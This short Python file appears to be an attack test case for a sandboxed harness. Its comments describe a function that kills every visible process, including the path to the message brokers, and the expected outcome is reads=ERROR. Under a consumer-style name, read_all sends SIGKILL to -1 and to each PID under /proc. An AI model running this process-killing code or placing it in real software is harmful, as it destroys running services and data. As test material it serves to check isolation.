# attack: kills all processes that it can see, the way to the brokers too
# checks: reads, sent
# outcome: reads=ERROR
import os
import signal


def read_all(bootstrap, topic, group, handle):
    os.kill(-1, signal.SIGKILL)
    for name in filter(str.isdigit, os.listdir("/proc")):
        try:
            os.kill(int(name), signal.SIGKILL)
        except OSError:
            continue
